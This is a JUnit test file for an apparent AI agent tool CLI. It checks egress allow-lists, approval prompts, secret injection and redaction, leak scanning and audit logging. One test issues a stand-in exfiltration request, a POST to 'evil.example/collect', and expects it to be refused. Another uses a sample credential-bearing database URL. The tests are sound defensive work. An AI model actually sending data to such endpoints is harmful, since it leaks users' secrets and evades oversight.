package dev.ironclaw4j.server.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import dev.ironclaw4j.server.testing.EchoingApi;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code tool list} and {@code tool call} through the real pipeline: egress to a real loopback Jetty
 * server that the test's policy allows, refusal of a host it does not, approvals on the CLI, secrets
 * injected only at the egress boundary and redacted when echoed back, everything in the audit log.
 */
class ToolCliTest {
  static final String PASS = "tool cli test passphrase";

  @TempDir Path tmp;
  CliRunner cli;
  EchoingApi api;
  int port;
  List<String> received;

  @BeforeEach
  void start() throws Exception {
    cli = new CliRunner(tmp.resolve("home"));
    api = new EchoingApi();
    port = api.port();
    received = api.received;
  }

  @AfterEach
  void stop() throws Exception {
    api.close();
  }

  Map<String, String> env() {
    Map<String, String> env = new HashMap<>();
    env.put("IRONCLAW4J_EGRESS_ALLOW", "[\"http://127.0.0.1:" + port + "/api allow-private\"]");
    env.put("IRONCLAW4J_VAULT_PASSPHRASE", PASS);
    return env;
  }

  CliRunner.Result call(String tool, String input, String... extra) {
    List<String> args = new java.util.ArrayList<>(List.of("tool", "call", tool, "--input", input));
    args.addAll(List.of(extra));
    return cli.run(env(), "", args.toArray(String[]::new));
  }

  @Test
  void listShowsTheBuiltinTools() {
    CliRunner.Result r = cli.run(env(), "", "tool", "list");
    assertEquals(0, r.code(), r.all());
    for (String t : new String[] {"echo", "time", "secret_list", "http_request", "memory_search", "memory_read",
        "memory_write", "memory_tree"}) {
      assertTrue(r.out().contains(t + " "), r.out());
    }
    assertTrue(r.out().matches("(?s).*http_request\\s+builtin\\s+ask\\s+effects=network,use_secret.*"), r.out());
  }

  @Test
  void echoRunsAndIsFenced() {
    CliRunner.Result r = call("echo", "{\"text\":\"hi there\"}");
    assertEquals(0, r.code(), r.all());
    assertTrue(r.out().contains("UNTRUSTED-CONTENT") && r.out().contains("hi there"), r.out());
  }

  @Test
  void httpRequestToAllowedLoopbackWorksAndDisallowedHostIsDeniedBothAudited() {
    CliRunner.Result ok = call("http_request", "{\"url\":\"http://127.0.0.1:" + port + "/api/x\",\"method\":\"GET\"}", "--yes");
    assertEquals(0, ok.code(), ok.all());
    assertTrue(ok.out().contains("hello from the api"), ok.out());
    assertEquals(1, received.size());

    CliRunner.Result denied = call("http_request", "{\"url\":\"http://127.0.0.1:" + port + "/admin\",\"method\":\"GET\"}", "--yes");
    assertEquals(1, denied.code(), denied.all());
    assertTrue(denied.err().contains("egress refused the request"), denied.err());
    CliRunner.Result other = call("http_request", "{\"url\":\"https://evil.example/collect\",\"method\":\"POST\"}", "--yes");
    assertEquals(1, other.code(), other.all());
    assertEquals(1, received.size(), "nothing reached the server after the allowed call");

    CliRunner.Result audit = cli.run(env(), "", "audit");
    assertEquals(0, audit.code(), audit.all());
    assertTrue(audit.out().contains("egress.request   allowed    127.0.0.1:" + port), audit.out());
    assertTrue(audit.out().contains("egress.request   denied     127.0.0.1:" + port), audit.out());
    assertTrue(audit.out().contains("reason=path-not-allowed"), audit.out());
    assertTrue(audit.out().contains("egress.request   denied     evil.example:443"), audit.out());
    assertTrue(audit.out().contains("reason=host-not-allowed"), audit.out());
    assertTrue(audit.out().contains("tool.call        allowed    http_request"), audit.out());
    assertTrue(audit.out().matches("(?s).*tool\\.call +allowed +http_request .*to=127\\.0\\.0\\.1:" + port + " outcome=ok.*"),
        "the tool call's own record lists where it sent data: " + audit.out());
    assertEquals(0, cli.run(env(), "", "audit", "verify").code());
  }

  @Test
  void askWithoutAnyoneToAskSendsNothing() {
    CliRunner.Result r = call("http_request", "{\"url\":\"http://127.0.0.1:" + port + "/api/x\",\"method\":\"GET\"}");
    assertEquals(1, r.code(), r.all());
    assertTrue(r.err().contains("needs approval"), r.err());
    assertEquals(0, received.size());
  }

  @Test
  void secretIsInjectedOnlyAtTheBoundaryAndRedactedWhenEchoed() {
    assertEquals(0, cli.run(env(), "", "vault", "init").code());
    String value = "sk-" + "ToolCliSecretValue" + System.nanoTime();
    CliRunner.Result set = cli.run(env(), value, "secret", "set", "API_KEY", "--bind", "http://127.0.0.1:" + port + "/api GET",
        "--inject", "bearer");
    assertEquals(0, set.code(), set.all());

    CliRunner.Result r = call("http_request", "{\"url\":\"http://127.0.0.1:" + port + "/api/me\",\"method\":\"GET\","
        + "\"headers\":{\"Authorization\":\"Bearer {{secret:API_KEY}}\"}}", "--yes");
    assertEquals(0, r.code(), r.all());
    assertEquals(List.of("GET /api/me auth=Bearer " + value), received, "the bound server got the credential");
    assertFalse(r.all().contains(value), "the echoed value never reaches the caller: " + r.all());
    assertTrue(r.out().contains("[REDACTED"), r.out());

    CliRunner.Result wrongPlace = call("http_request", "{\"url\":\"http://127.0.0.1:" + port + "/api/me?k={{secret:API_KEY}}\",\"method\":\"GET\"}", "--yes");
    assertEquals(1, wrongPlace.code());
    assertEquals(1, received.size(), "a placeholder outside the bound location sends nothing");
    CliRunner.Result raw = call("http_request", "{\"url\":\"http://127.0.0.1:" + port + "/api/me\",\"method\":\"POST\",\"body\":\"" + value + "\"}", "--yes");
    assertEquals(1, raw.code());
    assertEquals(1, received.size(), "the raw value in a body is caught by the leak scan before sending");
    assertFalse(raw.all().contains(value));
    String audit = cli.run(env(), "", "audit", "--limit", "1000").out();
    assertFalse(audit.contains(value));
    assertTrue(audit.contains("approver=secrets:API_KEY"), "the audit names the secret used, never its value: " + audit);
    assertTrue(audit.contains("reason=secret-not-bound") && audit.contains("reason=leak-in-request"), audit);
  }

  @Test
  void configuredApprovalRulesApply() {
    Map<String, String> env = env();
    env.put("IRONCLAW4J_TOOLS_APPROVAL", "[\"cli:http_request=allow\", \"echo=deny\"]");
    CliRunner.Result list = cli.run(env, "", "tool", "list");
    assertTrue(list.out().matches("(?s).*http_request\\s+builtin\\s+allow.*"), list.out());
    CliRunner.Result allowed = cli.run(env, "", "tool", "call", "http_request", "--input",
        "{\"url\":\"http://127.0.0.1:" + port + "/api/x\",\"method\":\"GET\"}");
    assertEquals(0, allowed.code(), "allowed by policy without --yes: " + allowed.all());
    CliRunner.Result denied = cli.run(env, "", "tool", "call", "echo", "--input", "{\"text\":\"x\"}", "--yes");
    assertEquals(1, denied.code());
    assertTrue(denied.err().contains("policy denies echo"), denied.err());
    env.put("IRONCLAW4J_TOOLS_APPROVAL", "[\"echo=maybe\"]");
    CliRunner.Result bad = cli.run(env, "", "tool", "list");
    assertEquals(2, bad.code());
    assertTrue(bad.err().contains("tools.approval") && bad.err().contains("echo=maybe"), bad.err());
  }

  @Test
  void memoryToolsWriteAndRecallThroughThePipeline() {
    CliRunner.Result write = call("memory_write", "{\"path\":\"notes/deploy.md\",\"content\":\"Roll back with kubectl rollout undo.\"}", "--yes");
    assertEquals(0, write.code(), write.all());
    CliRunner.Result search = call("memory_search", "{\"query\":\"how do I roll back\"}", "--yes");
    assertEquals(0, search.code(), search.all());
    assertTrue(search.out().contains("notes/deploy.md"), search.out());
    CliRunner.Result leak = call("memory_write", "{\"path\":\"notes/db.md\",\"content\":\"postgres://admin:Q7vR2mXk9LpT4wZs@db:5432/app\"}", "--yes");
    assertEquals(1, leak.code(), "a credential is never written to memory: " + leak.all());
    assertFalse(leak.all().contains("Q7vR2mXk9LpT4wZs"));
  }
}
